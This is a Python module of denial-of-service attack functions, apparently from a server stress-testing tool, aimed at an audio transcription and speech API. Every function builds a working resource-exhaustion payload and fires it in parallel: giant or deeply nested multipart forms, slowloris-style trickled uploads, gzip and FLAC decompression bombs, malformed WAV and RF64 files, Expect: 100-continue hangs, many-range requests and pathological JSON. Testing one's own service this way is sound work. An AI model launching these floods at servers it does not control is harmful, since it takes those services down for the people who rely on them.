"""Bodies: crafted forms and audio, bombs, and bodies that never end."""

import json
import socket

from .catalogue import attack
from .payloads import (
    BOUNDARY,
    CLOSING,
    FILE,
    FLOOD_SDS,
    FORM,
    MB,
    TRUNCATED_RF64,
    crafted_mp3,
    flac_bomb,
    form,
    gzip_bomb,
    wav,
)
from .target import Target, request_head

TRANSCRIPTIONS, SPEECH = "/v1/audio/transcriptions", "/v1/audio/speech"
RAW, JSON = "application/octet-stream", "application/json"
UPLOADS = 16
"""As many as the server takes at once."""


def _send(target: Target, file: bytes) -> str:
    return target.post(TRANSCRIPTIONS, form(file), FORM)


@attack()
def multipart_preamble(target: Target) -> None:
    """20 MB of short lines before the first boundary of a form"""
    target.post(TRANSCRIPTIONS, b"a\n" * (10 * MB) + form(b""), FORM)


@attack()
def multipart_one_line(target: Target) -> None:
    """20 MB without a newline before the first boundary of a form"""
    target.post(TRANSCRIPTIONS, b"a" * (20 * MB) + b"\r\n" + form(b""), FORM)


@attack()
def multipart_file_name(target: Target) -> None:
    """file names of 100 KB, and 8,000 headers of a part"""
    long = FILE.replace('"a"', f'"{"a" * 100_000}"')
    many = FILE.replace("\r\n\r\n", "\r\n" + "X-A: b\r\n" * 8000 + "\r\n")

    def send(number: int) -> None:
        part = (long, many)[number % 2].encode()
        target.post(TRANSCRIPTIONS, part + bytes(9) + CLOSING, FORM)

    target.again(4, send)


@attack()
def multipart_many_parts(target: Target) -> None:
    """forms of 200,000 empty parts"""
    part = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n'.encode()
    target.again(2, lambda _: target.post(TRANSCRIPTIONS, part * 200_000 + CLOSING, FORM))


@attack()
def multipart_near_boundaries(target: Target) -> None:
    """a file of 20 MB in which a boundary almost stands at every line"""
    near = f"\r\n--{BOUNDARY[:-1]}".encode()
    target.again(2, lambda _: _send(target, near * (20 * MB // len(near))))


@attack()
def multipart_nested(target: Target) -> None:
    """a form within a form, a thousand deep"""
    inner = "".join(
        f"--b{number}\r\nContent-Type: multipart/mixed; boundary=b{number + 1}\r\n\r\n"
        for number in range(1000)
    )
    kind = "multipart/form-data; boundary=b0"
    target.again(4, lambda _: target.post(TRANSCRIPTIONS, inner.encode() * 20, kind))


@attack()
def uploads_trickled(target: Target) -> None:
    """16 posts that send a byte now and then and hold every place for an upload"""

    def trickle(number: int) -> None:
        path, kind = ((TRANSCRIPTIONS, FORM), ("/api/asr-streaming", RAW))[number % 2]
        with target.connect() as client:
            head = request_head("POST", path, 60 * MB, f"Content-Type: {kind}")
            target.write(client, head + f"--{BOUNDARY}\r\n".encode())
            while target.pause(0.5) and target.write(client, b"a"):
                pass
            client.shutdown(socket.SHUT_WR)
            target.count(target.status(client))

    target.together(UPLOADS, trickle)


@attack()
def uploads_large(target: Target) -> None:
    """16 uploads of 60 MB at once, which are no audio"""
    body = form(bytes(60 * MB))
    target.together(UPLOADS, lambda _: target.post(TRANSCRIPTIONS, body, FORM))


@attack()
def crafted_mp3s(target: Target) -> None:
    """four uploads of 24 MB of MP3 with noise between the frames"""
    body = crafted_mp3(24 * MB)
    target.together(4, lambda _: _send(target, body))


@attack()
def flac_bombs(target: Target) -> None:
    """four uploads of 0.4 MB of FLAC that hold two hours in eight channels"""
    body = flac_bomb(7100)
    target.together(4, lambda _: _send(target, body))


@attack()
def small_files_that_lie(target: Target) -> None:
    """an SDS file that makes libsndfile print, RF64 cut short, WAV files of giant sizes"""
    files = [
        FLOOD_SDS,
        TRUNCATED_RF64,
        wav(24000, 2, 1, bytes(48000), 0xFFFFFFF0),
        wav(1_000_000, 1, 1, bytes(MB), 0x7FFFFFFF),
        wav(24000, 2, 32767, bytes(MB)),
        wav(1000, 1, 1, bytes(7 * MB)),
    ]
    target.again(4, lambda number: [_send(target, file) for file in files[number:] + files])


@attack()
def compressed_bodies(target: Target) -> None:
    """bodies with Content-Encoding that grow from 1 MB to 1 GB"""
    body = gzip_bomb(1 << 30)
    places = [(TRANSCRIPTIONS, FORM), (SPEECH, JSON), ("/api/asr-streaming", RAW)]

    def send(number: int) -> None:
        path, kind = places[number % len(places)]
        target.post(path, body, kind, "Content-Encoding: gzip")

    target.again(6, send)


@attack()
def chunks_of_a_byte(target: Target) -> None:
    """bodies in chunks of one byte each"""
    chunks = b"1\r\na\r\n" * (MB // 2) + b"0\r\n\r\n"
    headers = ("Transfer-Encoding: chunked", f"Content-Type: {RAW}")

    def send(_: int) -> None:
        with target.connect() as client:
            head = request_head("POST", "/api/asr-streaming", None, *headers)
            target.write(client, head + chunks)
            target.count(target.status(client))

    target.again(4, send)


@attack()
def expected_bodies(target: Target) -> None:
    """200 posts with Expect: 100-continue whose body never comes, and odd ranges of a page"""

    def expect(_: int) -> None:
        with target.connect() as client:
            headers = ("Expect: 100-continue", f"Content-Type: {FORM}")
            target.write(client, request_head("POST", TRANSCRIPTIONS, MB, *headers))
            target.count(target.status(client))

    def ask_ranges(_: int) -> None:
        many = ",".join(f"{start}-" for start in range(1000))
        target.ask("GET", "/page.js", b"", f"Range: bytes={many}", "If-Range: x")

    target.together(204, lambda number: (expect if number < 200 else ask_ranges)(number))


@attack()
def json_bodies(target: Target) -> None:
    """a megabyte of JSON: deep, of numbers, of names, of digits"""
    bodies = [
        b"[" * MB,
        b'{"a":' * (MB // 5),
        b'{"a":[' + b"1.0," * (MB // 4 - 9) + b"1]}",
        json.dumps({f"{number:x}": 0 for number in range(80_000)}).encode(),
        b'{"input":' + b"9" * (MB - 20) + b"}",
        b'{"input":"' + rb"\ud800" * (MB // 6 - 4) + b'"}',
    ]
    paths = (SPEECH, "/api/tts_streaming")
    target.again(4, lambda number: [target.post(paths[number % 2], body, JSON) for body in bodies])
